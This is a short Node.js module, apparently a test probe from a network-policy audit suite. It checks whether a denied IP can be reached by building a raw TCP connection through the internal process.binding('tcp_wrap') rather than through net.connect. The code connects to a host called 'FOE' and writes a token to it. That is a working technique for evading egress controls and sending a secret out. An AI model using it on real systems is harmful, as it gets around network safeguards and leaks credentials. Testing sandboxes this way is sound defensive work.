// process.binding('tcp_wrap')
// Makes the handle under net.connect by hand.
// policy: denied-address
// audit: explicitlyDeniedIP
// proof: arrival
'use strict';
const net = require('net');

module.exports = async (at) => {
  const { TCP, TCPConnectWrap, constants } = process.binding('tcp_wrap');
  const handle = new TCP(constants.SOCKET);
  const request = new TCPConnectWrap();
  const connected = new Promise((resolve) => { request.oncomplete = resolve; });
  if (handle.connect(request, at.FOE, at.PORT) !== 0 || await connected !== 0) return false;
  const socket = new net.Socket({ handle });
  socket.write(at.token);
  return true;
};
